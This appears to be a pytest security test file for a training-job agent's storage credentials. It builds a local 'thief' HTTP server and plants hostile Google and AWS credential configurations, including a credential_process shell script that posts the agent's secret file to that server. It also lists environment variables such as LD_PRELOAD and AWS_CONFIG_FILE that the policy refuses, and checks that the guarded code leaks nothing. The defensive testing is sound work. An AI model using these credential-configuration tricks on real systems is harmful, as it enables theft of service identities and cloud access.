"""Attacks by training code on the credentials with which its agent opens the job's storage.

The code can write to a volume that the agent mounts, and to its own home folder; the agent has a file that proves its
identity. Each attack runs in a process as an agent in a pod does, which opens a storage with the real libraries.
"""

from __future__ import annotations

import asyncio
import json
import os
import shlex
import sys
import textwrap
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest

from perdure.agent.storage_credentials import PROTOCOLS, ignore_configuration, options_of
from tests.security.test_site_policy import agent, is_refused, made
from tests.support.waiting import eventually
from tests.support.warm_process import WarmProcess, warm_interpreter

SECRET = "SECRET-INCARNATION-TOKEN"

READ_NOTHING = ("aiobotocore.session", "botocore.session", "google.auth", "google.oauth2.credentials")
"""Libraries of the storages that read no variable and no file when they are imported; fsspec does."""


@dataclass
class Thief:
    """An HTTP server that keeps what it is sent, and answers as a token service would."""

    url: str = ""
    received: list[str] = field(default_factory=list[str])


@pytest.fixture
def thief() -> Iterator[Thief]:
    thief = Thief()

    class Handler(BaseHTTPRequestHandler):
        def answer(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
            thief.received.append(f"{self.path} {self.headers} {body.decode(errors='replace')}")
            token = {"access_token": "x", "expires_in": 3600, "token_type": "Bearer"}
            exchanged = {"issued_token_type": "urn:ietf:params:oauth:token-type:access_token"}
            content = json.dumps(token | exchanged).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        do_GET = do_POST = do_PUT = do_HEAD = answer  # noqa: N815

        def log_message(self, format: str, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thief.url = f"http://127.0.0.1:{server.server_port}"
    thread = Thread(target=server.serve_forever)
    thread.start()
    yield thief
    server.shutdown()
    thread.join()
    server.server_close()


@dataclass(frozen=True)
class Node:
    """The folders of a pod, as the agent's container sees them."""

    private: Path
    """The agent's own."""
    volume: Path
    """One that training code writes to."""

    @property
    def secret(self) -> Path:
        return self.private / "agent.json"

    @property
    def output(self) -> Path:
        return self.private / "output"


@pytest.fixture
def node(tmp_path: Path) -> Node:
    node = Node(tmp_path / "private", tmp_path / "volume")
    node.private.mkdir()
    node.volume.mkdir()
    node.secret.write_text(json.dumps({"token": SECRET}))
    return node


@asynccontextmanager
async def opening(node: Node, url: str, environment: dict[str, str], *, guarded: bool) -> AsyncIterator[WarmProcess]:
    """A process with these variables opens a storage, and prints what went wrong."""
    kept = {name: value for name, value in os.environ.items() if not name.startswith(("AWS_", "GOOGLE_", "AZURE_"))}
    # No machine of a cloud answers here, nor another protocol than HTTP: asking for one takes a minute.
    alone = {"NO_GCE_CHECK": "true", "AWS_EC2_METADATA_DISABLED": "true", "AWS_MAX_ATTEMPTS": "1"}
    alone["GCSFS_EXPERIMENTAL_ZB_HNS_SUPPORT"] = "false"
    with node.output.open("wb") as output:
        process = await asyncio.to_thread(
            warm_interpreter(*READ_NOTHING).start,
            "tests.security.open_storage",
            "guarded" if guarded else "plain",
            str(node.private),
            url,
            environment={**kept, **alone, **environment},
            output=output.fileno(),
            errors=output.fileno(),
        )
    try:
        yield process
    finally:
        process.kill()
        await process.wait()


Attack = tuple[str, dict[str, str]]


def google_external_account(node: Node, thief: Thief) -> Attack:
    """Google's library reads a file and posts it to an address, both of which the credentials name."""
    pytest.importorskip("gcsfs")
    configuration = {
        "type": "external_account",
        "audience": "//iam.googleapis.com/locations/global/workforcePools/p/providers/q",
        "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
        "token_url": f"{thief.url}/steal",
        "credential_source": {"file": str(node.secret)},
    }
    file = node.volume / "key.json"
    file.write_text(json.dumps(configuration))
    return "gs://bucket/logs", {"GOOGLE_APPLICATION_CREDENTIALS": str(file), "STORAGE_EMULATOR_HOST": thief.url}


def google_well_known_file(node: Node, thief: Thief) -> Attack:
    """The same in the file that gcloud's own command writes."""
    url, environment = google_external_account(node, thief)
    folder = node.volume / "gcloud"
    folder.mkdir()
    Path(environment.pop("GOOGLE_APPLICATION_CREDENTIALS")).rename(folder / "application_default_credentials.json")
    return url, environment | {"CLOUDSDK_CONFIG": str(folder)}


def script(node: Node, thief: Thief) -> Path:
    """A program that posts the agent's file."""
    program = node.volume / "steal"
    body = f"""\
        #!/bin/sh
        exec {shlex.quote(sys.executable)} - << END
        import urllib.request
        urllib.request.urlopen("{thief.url}", open("{node.secret}", "rb").read())
        print('{{"Version": 1, "AccessKeyId": "a", "SecretAccessKey": "b"}}')
        END
    """
    program.write_text(textwrap.dedent(body))
    program.chmod(0o755)
    return program


def s3(thief: Thief) -> dict[str, str]:
    return {"AWS_ENDPOINT_URL_S3": thief.url, "AWS_DEFAULT_REGION": "us-east-1"}


def aws_credential_process(node: Node, thief: Thief) -> Attack:
    file = node.volume / "config"
    file.write_text(f"[default]\ncredential_process = {script(node, thief)}\n")
    return "s3://bucket/logs", {**s3(thief), "AWS_CONFIG_FILE": str(file)}


def aws_shared_credentials(node: Node, thief: Thief) -> Attack:
    file = node.volume / "credentials"
    file.write_text(f"[default]\ncredential_process = {script(node, thief)}\n")
    return "s3://bucket/logs", {**s3(thief), "AWS_SHARED_CREDENTIALS_FILE": str(file)}


def aws_web_identity(node: Node, thief: Thief) -> Attack:
    """The token of the role is in the agent's file, and the configuration says who shall get it."""
    file = node.volume / "config"
    file.write_text(
        f"[default]\nrole_arn = arn:aws:iam::123456789012:role/r\nweb_identity_token_file = {node.secret}\n"
        f"services = local\n[services local]\nsts =\n  endpoint_url = {thief.url}\n"
    )
    return "s3://bucket/logs", {**s3(thief), "AWS_CONFIG_FILE": str(file)}


def aws_home(node: Node, thief: Thief) -> Attack:
    (node.volume / ".aws").mkdir()
    _, environment = aws_credential_process(node, thief)
    Path(environment.pop("AWS_CONFIG_FILE")).rename(node.volume / ".aws" / "config")
    return "s3://bucket/logs", environment | {"HOME": str(node.volume)}


def fsspec_folder(node: Node, thief: Thief) -> Attack:
    """fsspec's own configuration names a profile, an address and keys of any storage."""
    _, environment = aws_credential_process(node, thief)
    folder = node.volume / "fsspec"
    folder.mkdir()
    (folder / "conf.json").write_text(json.dumps({"s3": {"endpoint_url": thief.url, "key": SECRET, "secret": "x"}}))
    del environment["AWS_CONFIG_FILE"], environment["AWS_ENDPOINT_URL_S3"]
    # A closed port, so that only the configuration leads to the thief.
    return "s3://bucket/logs", {
        **environment,
        "AWS_ENDPOINT_URL_S3": "http://127.0.0.1:9",
        "FSSPEC_CONFIG_DIR": str(folder),
    }


ATTACKS = [
    google_external_account,
    google_well_known_file,
    aws_credential_process,
    aws_shared_credentials,
    aws_web_identity,
    aws_home,
    fsspec_folder,
]


@pytest.mark.parametrize(
    "attack",
    [
        pytest.param(one, id=one.__name__, marks=[pytest.mark.long("storage")] if one is google_well_known_file else [])
        for one in ATTACKS
    ],
)
async def test_no_configuration_of_training_code_leads_to_the_agents_files(
    attack: Any, node: Node, thief: Thief
) -> None:
    url, environment = attack(node, thief)
    # Else the attack is none, and proves nothing. What the libraries try again then takes a minute.
    async with opening(node, url, environment, guarded=False):
        await eventually(lambda: SECRET in str(thief.received))
    thief.received.clear()
    async with opening(node, url, environment, guarded=True) as process:
        assert await process.wait() == 0
    assert SECRET not in str(thief.received)
    assert SECRET not in node.output.read_text()


def test_a_service_accounts_key_is_used_and_its_address_is_not(tmp_path: Path) -> None:
    key = {"type": "service_account", "client_email": "a@b", "private_key": "k", "universe_domain": "evil.example"}
    file = tmp_path / "key.json"
    environment = {"GOOGLE_APPLICATION_CREDENTIALS": str(file)}
    ignore_configuration(tmp_path, environment)
    assert "GOOGLE_APPLICATION_CREDENTIALS" not in environment
    file.write_text(json.dumps(key | {"token_uri": "https://evil.example"}))
    token = options_of("gs://bucket", environment)["token"]
    assert token["private_key"] == "k"
    assert "evil" not in str(token)
    assert options_of("s3://bucket", environment) == {}


@pytest.mark.parametrize("kind", ["external_account", "external_account_authorized_user", "impersonated", None])
def test_other_credentials_of_google_are_refused_by_name(kind: str | None, tmp_path: Path) -> None:
    file = tmp_path / "key.json"
    file.write_text(json.dumps({"type": kind, "secret": SECRET}))
    environment = {"GOOGLE_APPLICATION_CREDENTIALS": str(file)}
    ignore_configuration(tmp_path, environment)
    with pytest.raises(ValueError, match="another type than service_account and authorized_user") as refused:
        options_of("gs://bucket", environment)
    assert SECRET not in str(refused.value)


def test_what_stands_in_place_of_a_key_neither_blocks_nor_fills_the_agent(tmp_path: Path) -> None:
    pipe, large, deep, private = (tmp_path / name for name in ("pipe", "large", "deep", "private"))
    os.mkfifo(pipe)
    with large.open("wb") as file:
        file.truncate(1 << 40)
    deep.write_text("[" * 60_000)
    private.write_text(SECRET)
    for place in (pipe, large, deep, private, Path("/dev/zero"), tmp_path):
        environment = {"GOOGLE_APPLICATION_CREDENTIALS": str(place)}
        ignore_configuration(tmp_path, environment)
        with pytest.raises((ValueError, OSError)) as refused:
            options_of("gs://bucket", environment)
        assert SECRET not in str(refused.value)


@pytest.mark.parametrize("scheme", ["zip", "tar", "git", "sftp", "reference", "dir", "http", "hdfs", "simplecache"])
def test_storages_that_open_other_files_are_refused_by_name(scheme: str) -> None:
    with pytest.raises(ValueError, match=f"got {scheme}://…; expected one of file, local, s3") as refused:
        options_of(f"{scheme}://x/y")
    assert all(one in str(refused.value) for one in PROTOCOLS)


@pytest.mark.parametrize(
    "name",
    [
        *("AWS_CONFIG_FILE", "AWS_SHARED_CREDENTIALS_FILE", "AWS_WEB_IDENTITY_TOKEN_FILE", "AWS_ENDPOINT_URL_STS"),
        *("AWS_CONTAINER_CREDENTIALS_FULL_URI", "AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE", "BOTO_CONFIG", "HOME"),
        *("AZURE_FEDERATED_TOKEN_FILE", "AZURE_AUTHORITY_HOST", "FSSPEC_CONFIG_DIR", "FSSPEC_S3", "CLOUDSDK_CONFIG"),
        *("PYTHONPATH", "LD_PRELOAD", "LD_LIBRARY_PATH", "XDG_CONFIG_HOME", "PERDURE_AGENT_CONFIG", "TEMPORAL_ADDRESS"),
    ],
)
def test_no_policy_lets_a_job_name_configurations_of_its_agent(name: str) -> None:
    everything = {"agent_variables": ["*"], "template_fields": ["spec"]}
    is_refused("Perdure's own parts", template=agent(env=[{"name": name, "value": "/mnt/x"}]), policy=everything)
    assert made(agent(env=[{"name": "OSS_ACCESS_KEY_ID", "value": "x"}]), policy=everything)


def test_by_default_a_job_names_the_address_of_its_object_store_only() -> None:
    """The other address would also be that of AWS's token service, which is sent the pod's identity."""
    assert made(agent(env=[{"name": "AWS_ENDPOINT_URL_S3", "value": "http://store.test"}]))
    is_refused("Perdure's own parts", template=agent(env=[{"name": "AWS_ENDPOINT_URL", "value": "http://store.test"}]))
